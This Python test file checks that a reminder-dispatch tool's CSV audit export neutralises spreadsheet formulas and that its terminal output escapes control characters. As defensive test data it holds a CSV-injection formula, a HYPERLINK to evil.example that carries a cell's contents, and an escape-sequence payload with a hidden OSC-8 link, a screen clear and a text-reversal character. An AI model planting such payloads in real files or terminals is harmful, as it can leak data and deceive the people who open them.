"""What the commands print is safe to open and to read: CSV cells are never formulas, and
stored text reaches the terminal with its control characters escaped."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

from dispatcher.policy import decide
from dispatcher.runtime import load_runtime
from dispatcher.store.api import CaseIn, NewReminder, PersonIn
from dispatcher.terminal import printable
from tests.conftest import Deployment

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
# ESC ] 8 ;; URL BEL: an OSC-8 hyperlink; ESC [ 2 J clears the screen; U+202E reverses text.
OSC8 = "C-\x1b]8;;http://evil.example\x07here\x1b]8;;\x07\x1b[2J\u202e"


def seed_case(dep: Deployment, person_id: str, case_id: str, template: str) -> None:
    """One person, one case and one due reminder, with the ids given (the store takes any)."""
    now = datetime.now(UTC)
    store = dep.store()
    person = PersonIn(person_id, "Pat Doe", "en", "UTC", ("+12025550100",), ("p@example.com",))
    case = CaseIn(case_id, person_id, "10.00", "USD", date.today() - timedelta(days=5), "x")
    store.upsert([person], [case], now)
    reminder = NewReminder(
        case_id=case_id,
        person_id=person_id,
        schedule="test",
        step="1",
        channel="sms",
        template=template,
        due_at=now - timedelta(minutes=1),
    )
    store.add_reminders([reminder], [(case_id, now + timedelta(days=3650))], now)
    runtime = load_runtime(dep.config)
    store.claim_due(
        now,
        10,
        lambda r, p, c, h: decide(runtime.policy, r, p, c, h, now),
        timedelta(days=7),
        policy_version=runtime.policy_version,
    )
    store.close()


def test_the_csv_export_never_writes_a_formula_cell(open_deployment: Deployment) -> None:
    dep = open_deployment
    seed_case(dep, "@SUM(1+1)", FORMULA, "first_notice")
    since = (datetime.now(UTC) - timedelta(days=1)).isoformat()
    until = (datetime.now(UTC) + timedelta(days=1)).isoformat()

    result = dep.cli("audit", "export", "--since", since, "--until", until, "--unmasked")

    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows
    cells = [value for row in rows for value in row.values() if value]
    assert not [c for c in cells if c[0] in "=+-@\t\r"], cells
    assert {row["case_id"] for row in rows} == {"'" + FORMULA}
    assert {row["person_id"] for row in rows} == {"'@SUM(1+1)"}
    # The documented way back: one leading ' removed.
    assert {row["case_id"].removeprefix("'") for row in rows} == {FORMULA}
    assert "'+12025550100" in {row["contact"] for row in rows}


def test_explain_prints_ids_with_their_escape_sequences_escaped(
    open_deployment: Deployment,
) -> None:
    dep = open_deployment
    seed_case(dep, "P-\x1b[31mred", OSC8, "first\x1b]8;;x\x07notice")

    result = dep.cli("explain", OSC8)

    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "\u202e" not in result.stdout
    assert "\\x1b]8;;http://evil.example\\x07here" in result.stdout
    assert "P-\\x1b[31mred" in result.stdout
    assert "\\u202e" in result.stdout


def test_printable() -> None:
    assert printable("C-1004 张三") == "C-1004 张三"
    assert printable("a\x1b[2Jb\r\n\t\x7f\x9b") == "a\\x1b[2Jb\\x0d\\x0a\\x09\\x7f\\x9b"
    assert printable("\u202eevil\u200b") == "\\u202eevil\\u200b"
    assert printable(None) == "" and printable(42) == "42"
